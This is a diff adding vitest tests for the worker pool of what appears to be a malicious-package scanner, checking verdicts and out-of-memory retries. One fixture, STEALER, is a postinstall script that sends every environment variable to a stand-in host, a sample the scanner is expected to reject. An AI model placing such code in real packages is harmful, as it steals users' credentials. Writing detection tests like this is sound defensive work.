@@ -1,0 +1,71 @@
+import { join } from 'node:path';
+import { gzipSync } from 'node:zlib';
+import { describe, expect, it } from 'vitest';
+import { createInspectionPool, inProcessInspector } from '../src/inspection-pool.js';
+import { DEFAULT_POLICY } from '../src/policy/schema.js';
+import { RecordingLogger } from '../src/runtime/logger.js';
+import { testEngine } from './support/engine.js';
+import { tarArchive } from './unpack/tar-builder.js';
+
+// The worker side lives in the bundle (dist/cli.js starts it when workerData names the role); a test
+// checks elsewhere that dist/ equals a fresh build of these sources.
+const SCRIPT = join(import.meta.dirname, '..', 'dist', 'cli.js');
+const DAY = '2026-11-30';
+
+const npmPackage = (name: string, code: string) => ({
+  bytes: new Uint8Array(
+    gzipSync(
+      tarArchive([
+        { name: 'package/package.json', body: JSON.stringify({ name, version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node index.js' } }) },
+        { name: 'package/index.js', body: code },
+      ]),
+    ),
+  ),
+  filename: `${name}-1.0.0.tgz`,
+  ecosystem: 'npm' as const,
+  name,
+  version: '1.0.0',
+});
+
+// Defanged: the shape of an install-time credential theft, sent to a host that cannot exist.
+const STEALER = "const https = require('https');\nhttps.get('https://collector.example.test/c?d=' + encodeURIComponent(JSON.stringify(process.env)));\n";
+
+describe('inspection pool', () => {
+  it('gives the same verdict in a worker as in this thread', async () => {
+    const pool = createInspectionPool({ script: SCRIPT, size: 2, heapMb: 128, retryHeapMb: 256 });
+    try {
+      const inputs = [npmPackage('adds', 'module.exports = (a, b) => a + b;\n'), npmPackage('steals', STEALER)];
+      const pooled = await Promise.all(inputs.map((i) => pool.inspect(i, DEFAULT_POLICY, DAY)));
+      const local = inProcessInspector(await testEngine());
+      const here = await Promise.all(inputs.map((i) => local.inspect(i, DEFAULT_POLICY, DAY)));
+      expect(pooled.map((r) => r.verdict.decision)).toEqual(['pass', 'fail']);
+      expect(pooled).toEqual(here);
+    } finally {
+      await pool.close();
+    }
+  }, 60_000);
+
+  it('retries an artifact whose worker ran out of heap once, with the larger cap', async () => {
+    const log = new RecordingLogger();
+    // 4 MiB cannot even hold the engine: the first worker dies, the retry with 256 MiB succeeds.
+    const pool = createInspectionPool({ script: SCRIPT, size: 1, heapMb: 4, retryHeapMb: 256, log });
+    try {
+      const r = await pool.inspect(npmPackage('steals', STEALER), DEFAULT_POLICY, DAY);
+      expect(r.verdict.decision).toBe('fail');
+      expect(log.records.some((m) => /steals-1\.0\.0\.tgz: the analysis worker stopped \(out of memory\); trying once more with a 256 MiB heap/.test(m.message))).toBe(true);
+    } finally {
+      await pool.close();
+    }
+  }, 60_000);
+
+  it('reports an artifact that exhausts the larger cap too, instead of passing it', async () => {
+    const pool = createInspectionPool({ script: SCRIPT, size: 1, heapMb: 4, retryHeapMb: 4 });
+    try {
+      await expect(pool.inspect(npmPackage('steals', STEALER), DEFAULT_POLICY, DAY)).rejects.toThrow(/the analysis stopped twice \(out of memory; heap cap 4 MiB\)/);
+      // A pool whose workers keep dying still answers every request (no hang, no pass).
+      await expect(pool.inspect(npmPackage('adds', 'module.exports = 1;\n'), DEFAULT_POLICY, DAY)).rejects.toThrow(/stopped twice/);
+    } finally {
+      await pool.close();
+    }
+  }, 60_000);
+});
